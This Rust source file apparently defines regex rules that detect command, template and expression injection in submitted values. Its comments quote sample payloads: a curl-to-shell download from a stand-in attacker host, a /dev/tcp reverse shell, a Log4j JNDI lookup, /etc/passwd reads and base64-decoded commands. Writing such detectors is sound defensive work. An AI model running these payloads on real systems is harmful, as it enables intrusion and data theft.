//! Commands that leave the value they were written into and reach a shell or an interpreter (CWE-77, CWE-78, CWE-94).
//!
//! What is looked for is the way out, not commands: a value of at most one word, then `;`, `|`, `&`, a line break, `$(…)` or
//! backticks, then a command. So people may talk about commands, paste whole lines (`cd /tmp && ls`), write Markdown's inline
//! code, and install from `curl https://… | sh`. Refused whoever sends them: shells that call back, programs hidden in an
//! encoding, `; whoami`, the look-ups of Log4j, and templates that reach for the runtime or only multiply (`{{7*7}}`).
//!
//! Not found: a value that is a whole command, a weak command (`ls`, `id`) behind a word of letters alone (`name;id` is a list of
//! columns), options smuggled into a command's arguments, and code of an interpreter that names nothing of the system.

#[cfg(test)]
mod tests;

/// A pattern from its parts: strings, and the words below.
macro_rules! shell {
    // What ends a command, as it is or encoded.
    (@SEP) => { r"(?:[;|&\n\r]|\\[nr]|%(?:25)?(?:0[ad]|3b|7c|26))" };
    // What stands between a command and its arguments.
    (@SP) => { r"(?:[\x00-\x20+<]|%(?:20|09)|\$\{?ifs\b\}?(?:\$\d)?)+" };
    // The command's directory, and what may stand before it.
    (@DIR) => { r"(?:[\x00-\x20+({!]|%20|\$\{?ifs\}?)*(?:sudo[\x00-\x20]+)?(?:/[\w/]*/)?" };
    // Out of a value of one word, which may have closed a quote or a bracket.
    (@OUT) => { r#"^[^\x00-\x20;|&$`]*['")]*(?:[\x00-\x20+]|%20)*"# };
    // Out of a value that no list of names has: nothing, a number, an address, a file, a closed quote.
    (@OUT_OF_VALUE) => { r#"^(?:[^\x00-\x20;|&$`]*(?:\.\w+|\d|['")\]}/=%@]))?(?:[\x00-\x20+]|%20)*"# };
    // Nothing more, or the next command.
    (@END) => { r#"(?:\|['"]?$|(?:[\x00-\x20+]|%20)*(?:$|[;&#)'"`>\n]|//|\\n|\|\||%(?:0[ad0]|23|3b|26)))"# };
    (@$literal:literal) => { $literal };
    ($($part:tt)+) => { concat!("(?i)", $(shell!(@$part)),+) };
}

/// Name and pattern.
pub(super) const RULES: &[(&str, &str)] = &[
    // Who and where the service is: `x; whoami`.
    (
        "command_injection.reconnaissance",
        shell![r"(?:[;|&]|%(?:0[ad]|3b|7c|26))" DIR r"(?:whoami(?:\.exe)?(?:\s/\w+)?|uname\s+-a)" END],
    ),
    // A command behind a value: `127.0.0.1; cat /tmp/key`.
    (
        "command_injection.chained_command",
        shell![
            OUT_OF_VALUE SEP r"+" DIR r"(?:(?:id|pwd|ls|dir|ps|env|printenv|set|hostname|ifconfig|ipconfig|netstat"
            r"|systeminfo|tasklist|phpinfo\(\)|ver)(?:" SP r"(?:[-/~.*][\w/.*-]*|\w:\S*|aux))*" END r"|(?:cat|head|tail"
            r"|more|less|tac|nl|od|xxd|base64|strings|grep|type|rm|cp|mv|chmod|touch|del|find)" SP
            r#"(?:[-/~.*$"'{?\\%]"#
            r"|\w:[/\\])|(?:echo|start)" SP r"[\w$'\x22]|net1?" SP r"(?:user|view|group|localgroup)\b|(?:curl|wget|lynx"
            r"|t?ftp|nslookup|dig|host|ping|ncat|nc|telnet|ssh|scp)(?:\.exe)?" SP r"(?:-\S|\S*[.:$`]\S|\d)|(?:ba|z|da|k"
            r"|c)?sh" SP r"[-/]|(?:python\d?|perl|ruby|php|node|powershell|pwsh|cmd)(?:\.exe)?" SP r"[-/])"
        ],
    ),
    // A command whose output takes the value's place: `$(whoami)`, or `x` and the same in backticks.
    (
        "command_injection.substituted_command",
        shell![
            r"(?:^[^\s$`=]*\$\(" DIR r"|^[^\s`]*(?:[\w/.;|&@:'\x22-]|[?&-]\w+=)`)(?:id|whoami|ls|uname" SP r"-a"
            r"|hostname|env|(?:python\d?|perl|php|cat|curl|wget|ping|nslookup|dig|sleep|echo|printf|expr|base64|touch"
            r"|rm|nc|bash|sh)" SP r"\S.*)(?:" SP r"-\w+)?\s*[)`;|&>]|^\s*`(?:id|whoami|uname\s-a|cat\s/etc/\w+"
            r"|ping\s-[cn]\s\d.*)`\s*$"
        ],
    ),
    // A command that only waits: `x; sleep 10`, `$(sleep 10)`.
    (
        "command_injection.time_delay",
        shell![
            r"(?:(?:" OUT SEP r"+|\$\(|^\S*`)" DIR r"sleep" SP r"\d+(?:\.\d+)?[smh]?\s*(?:\)|`|" END r")"
            r"|[;|&]\s*(?:timeout\s+/t\s+\d|ping\s+-[nci]\s+\d+\s+(?:127\.|localhost|-)))"
        ],
    ),
    // The system's secrets: `a; cat /etc/passwd`, `a; type c:\windows\win.ini`.
    (
        "command_injection.sensitive_file",
        shell![
            r"(?:[;|&]|%(?:0a|3b|7c|26)|\(['\x22])" DIR r"(?:[\w'\x22\\]+" SP r"(?:-\w+" SP
            r")*\S*/[./'\x22\\]*e['\x22\\]*t['\x22\\]*c['\x22\\]*/\S*(?:pass"
            r"|shadow|sudoers|group|hosts)|type" SP r"\S*(?:win\.ini|boot\.ini|/etc/hosts|\\etc\\hosts))"
        ],
    ),
    // Words without white space: `cat${IFS}/etc/passwd`, `{cat,/etc/passwd}`.
    (
        "command_injection.hidden_space",
        shell![
            r"(?:[a-z;|&)]\$\{?ifs\b|\{(?:cat|ls|curl|wget|nc|ping|bash|sh|echo|rm|id|chmod),(?:[-/$\x22']|http)"
            r"|[a-z]\$\{?(?:path|home|pwd|shellopts):\d|\bx=\$'[^']*'&&)"
        ],
    ),
    // Names by their pattern: `/???/c?t /e?c/p?sswd`.
    ("command_injection.wildcard_path", shell![r"/(?:\?\?[?n]|b\?n|bi\?|\?in|us\?|\?sr|e\?c|et\?|\?tc)/[\w?*\[\]/]+"]),
    // Names in pieces: `;w\ho\ami`, `;c''at`, `|w^h^o^a^m^i`.
    (
        "command_injection.split_word",
        shell![
            r"(?:[;|&]|%(?:0a|3b|7c|26))" DIR r"(?:[a-z]{1,2}(?:\\[aceg-moqpuyz][a-z]?\\|\^[a-z]{1,2}\^)|[a-z]+(?:''"
            r#"|"")[a-z]+|[a-z]+\$[@*][a-z]|[a-z]{1,2}['"][a-z]{1,2}['"][a-z]|'[a-z]'[a-z]|"[a-z]"[a-z]"#
            r"|[a-z]+\$\{?[a-z\d]\}?[a-z]*\s+/)|\$\(rev<<<|\$'(?:\\x\w\w){2}"
        ],
    ),
    // A program from elsewhere, run at once: `;curl http://evil.example/x|sh`.
    (
        "command_injection.download_and_run",
        shell![
            r"(?:(?:" SEP r"|\$\(|`)\s*(?:curl|wget|fetch)" SP r"[^;\n]*|\b(?:curl|wget)\s[^|;&]*\b(?:http://"
            r"|\d+\.\d+\.\d+\.\d+)[^|;]*)(?:\||%7c)\s*(?:sudo\s+)?(?:/\w+)*/?(?:(?:ba|z|da|k)?sh|python\d?|perl|php)\b"
            r"|(?:curl|wget)\s[^\n]*(?:;|&&)\s*(?:chmod\s+(?:\+x|[0-7]*7[0-7]*)\s|(?:ba)?sh\s+/?tmp/)[^\n]*(?:;"
            r"|&&)\s*(?:\./|/tmp/|(?:ba)?sh\s)"
        ],
    ),
    // A program that was encoded: `echo aWQ=|base64 -d|sh`.
    (
        "command_injection.decoded_command",
        shell![
            r"(?:base64(?:" SP r"|\.)-+d\w*|xxd" SP r"-r|openssl\s+enc|\|\s*rev|(?:^|[;|&\n(])\s*(?:echo|printf)" SP
            r"[^|]*)[^|\n]*\|\s*(?:/\w+)*/?(?:ba"
            r"|z|da|k)?sh\s*(?:$|[-;&|<)'\x22`])|<<<\s*\$?\(?(?:base64|xxd)|\$\((?:base64\s+-d"
            r"|printf\s+['\x22]?\\(?:x[4-7]|1[0-7])|echo\s[^)]*base64\s+-d)"
        ],
    ),
    // A shell that calls back: `bash -i >& /dev/tcp/192.0.2.1/443 0>&1`.
    (
        "command_injection.reverse_shell",
        shell![
            r"(?:/dev/(?:tcp|udp)/(?:\d|\$|[\w-]+\.[\w.-]+/)|/inet/tcp/\d|\b(?:nc|ncat"
            r"|netcat)(?:\.\w+)?\s[^;\n]*-\w*[ec]\w*\s*\S*(?:sh|cmd)\b|mkfifo\s[^\n]*\bsh\s+-i"
            r"|\bnc\s[^\n]*\|\s*/bin/\w*sh\b|socat\s[^\n]*\bexec:|\bsh\s+-i\s*(?:[<>&|]|\d>)|\bsocket\([^\n]*(?:dup2"
            r"|pty\.spawn|subprocess|open\(\s*stdin|\bsh\s-i)|pty\.spawn\(|\b(?:fsockopen"
            r"|tcpsocket\.\w+)\s*\([^\n]*(?:exec|sh\b)|system\.net\.sockets\.tcpclient)"
        ],
    ),
    // PowerShell with a program in its arguments.
    (
        "command_injection.powershell",
        shell![
            r"(?:\b(?:powershell|pwsh)\b[^\n]*\s[-/](?:e|ec|en\w*)\s+['\x22]?[a-z\d+/=]{12}|\b(?:powershell"
            r"|pwsh)\b[^\n]*(?:downloadstring|downloadfile|\biex\b|invoke-expression|-w(?:indowstyle)?\s+hid)|\b(?:iex"
            r"|invoke-expression)\b[^\n]*(?:http://|frombase64string|-join\b)|[;|&]\s*iex\s*\(|\.download(?:string"
            r"|file)\(\s*['\x22]http://)"
        ],
    ),
    // Programs of Windows that fetch or start others: `certutil -urlcache -f http://…`.
    (
        "command_injection.windows_tool",
        shell![
            r"(?:certutil(?:\.exe)?\s[^\n]*[-/](?:urlcache|decode)\b|bitsadmin(?:\.exe)?\s[^\n]*/transfer"
            r"|mshta(?:\.exe)?\s+(?:['\x22]?https?:|vbscript:|javascript:)|regsvr32\s[^\n]*/i:\S*(?:http|\\\\)"
            r"|rundll32(?:\.exe)?\s+(?:javascript:|\\\\|url\.dll)|wmic\s+process\s+call\s+create|net1?\s+(?:user"
            r"|localgroup)\s[^\n]*\s/add\b|reg\s+save\s+hklm|[;|&]\s*cmd(?:\.exe)?\s*/[ck]"
            r"|cmd(?:\.exe)?\s+/[ck]\s*['\x22]?(?:powershell|whoami|ping|net\s|type\s|certutil|calc|start\s)"
            r"|[;|&]\s*%comspec%|%programfiles:~)"
        ],
    ),
    // A function of Bash that goes on: `() { :;}; id`.
    (
        "command_injection.shellshock",
        shell![r"(?:^\s*\(\)\s*\{[^}]*\}|\(\)\s*\{\s*(?::|_)\s*;?\s*\}\s*;|\(\)\s*\{\s*_;?\s*\}\s*>)"],
    ),
    // Look-ups of Log4j, plain and nested: `${jndi:ldap://evil.example/a}`.
    (
        "command_injection.log4j_lookup",
        shell![
            r"(?:\$|%24)(?:\{|%7b)\s*(?:jndi\s*:|(?:[^}]*(?:\$|%24)(?:\{|%7b))?(?:(?:lower|upper)(?::|%3a)[^}]"
            r"|[^{}]*::-\w|(?:env|sys|main|date|ctx|k8s|map|base64|bundle|java):[^{}]*:-[a-z:]\}|date:'\w'\}|j\}?\$\{))"
        ],
    ),
    // A template of Jinja or Twig that reaches for the runtime.
    (
        "command_injection.template_object",
        shell![
            r"(?:\{[{%][^}\n]*(?:__(?:class|mro|base|bases|subclasses|globals|builtins|init|import|getattribute"
            r"|getitem)__|\battr\(\s*['\x22]?(?:\\x|_|request)|\bos\.(?:popen|system)|_self\.env|registerundefined"
            r"|config\.(?:items|from_)|\|\s*(?:map|filter|sort|reduce)\(\s*['\x22](?:system|exec|passthru|shell_exec))"
            r"|\.__(?:subclasses__\(\)\s*\[|globals__\[|mro__\[\d\]\s*\.)|\[\s*['\x22]__(?:class|mro|globals|builtins"
            r"|base)__['\x22]\]\s*\[|__import__\(\s*['\x22](?:os|subprocess|pty|socket|builtins"
            r"|commands)['\x22]\s*\)\s*\.)"
        ],
    ),
    // A template that only shows it is one: `{{7*7}}`.
    (
        "command_injection.template_probe",
        shell![
            r"(?:\{\{|[$#*@~]\{|<%=|\[\[|\{=|\$\{\{|@\()\s*(?:\d+\s*\*\s*['\x22]?\d+['\x22]?|'\w'\.touppercase\(\)"
            r"|\d+/0)\s*(?:\}|%>|\]\]|\))"
        ],
    ),
    // An expression of Java: `${T(java.lang.Runtime).getRuntime().exec('id')}`.
    (
        "command_injection.java_expression",
        shell![
            r"(?:\bt\(\s*(?:java\.lang\.|org\.\w+\.)|@java\.lang\.\w+@|#_memberaccess|[$#%*@]\{[^}\n]*(?:getruntime\(\)"
            r"|processbuilder|forname\(|getclass\(\)|\.class\.|freemarker\.|scriptengine)|freemarker\.template\.utility"
            r"|\.class\.(?:inspect|forname|classloader)|class\.inspect\(|getclass\(\)\.forname\("
            r"|\)\.getruntime\(\)\.exec\(|forname\(\s*['\x22]java\.lang\.runtime|new\s+java\.lang\.processbuilder"
            r"|javax\.script\.scriptenginemanager)"
        ],
    ),
    // Code of PHP, Node, Ruby, Perl or a server's includes that starts a program: `eval(base64_decode('…'))`.
    (
        "command_injection.script_call",
        shell![
            r"(?:\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|include"
            r"|call_user_func)\(\s*(?:\$_(?:get|post|request|cookie|server)\b|base64_decode\(|gzinflate\(|str_rot13\("
            r"|hex2bin\()|<\?(?:php|=)?\s*(?:echo\s+)?@?(?:system|passthru|shell_exec|exec|popen|eval|assert|`)[\s('$]"
            r"|\{(?:system|passthru|exec|shell_exec)\(['\x22]|\{php\}|<!--#\s*(?:exec|include|config|echo)\s"
            r"|<esi:(?:include|inline|debug)|import\s+os\s*[;,][^\n]*os\.(?:system|popen)\(|<%=?\s*(?:system|exec|`"
            r"|io\.popen|file\.open|open\(|%x|require)|require\(['\x22]child_process['\x22]\)\.(?:exec|spawn|fork)\w*\("
            r"|process\.(?:mainmodule|binding)\b|[#$]\{\s*(?:`|system\(|%x|io\.popen|global\.process|require\()"
            r"|\b(?:perl|ruby|php|node|lua|awk)\s+(?:-\w+\s*)?['\x22][^\n]*\b(?:system|exec)\s*\(?\s*['\x22])"
        ],
    ),
    // The same behind a value: `1;system('id')`, `'.passthru('id').'`.
    (
        "command_injection.chained_call",
        shell![
            r"^(?:\d*[;&|]|[^\s'\x22`]*['\x22`]\)?\s*[;.,&|}])[;.,&|}]*\s*@?(?:system|passthru|shell_exec|exec|phpinfo"
            r"|popen|proc_open)\("
        ],
    ),
];
